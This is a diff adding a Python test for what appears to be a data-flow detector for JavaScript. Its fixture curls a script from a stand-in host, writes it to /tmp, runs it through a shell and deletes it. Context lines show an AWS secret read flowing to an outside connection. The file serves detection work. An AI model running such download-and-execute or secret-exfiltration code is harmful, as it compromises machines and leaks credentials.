@@ -356,3 +356,16 @@ def test_flows_inside_code_run_by_eval() -> None:
         ("env.read(AWS_SECRET_ACCESS_KEY)", 2, "net.connect(o.example.org)", 2,
          ((2, "assigned to k"),))}
     assert {(f.sink.via, f.sink.function) for f in facts.flows} == {("eval -> fetch", "boot")}
+
+
+def test_a_download_run_by_a_shell_among_other_commands() -> None:
+    source = ('const fs = require("fs");\n'
+              'const { spawnSync } = require("child_process");\n'
+              'const body = require("child_process").execSync("curl -s https://t.example.org/i");\n'
+              'fs.writeFileSync("/tmp/i.sh", body);\n'
+              'spawnSync("sh", ["-c", "/tmp/i.sh; rm -f /tmp/i.sh"]);\n')
+    facts = extract(source)
+    assert ("net.connect(t.example.org)", 3, "code.dynamic(download)", 5,
+            ((3, "assigned to body"), (4, "written to /tmp/i.sh"))) in {
+        summary(f) for f in facts.flows}
+    assert {f.origin for f in facts.flows} == {""}  # a command line is not a URL
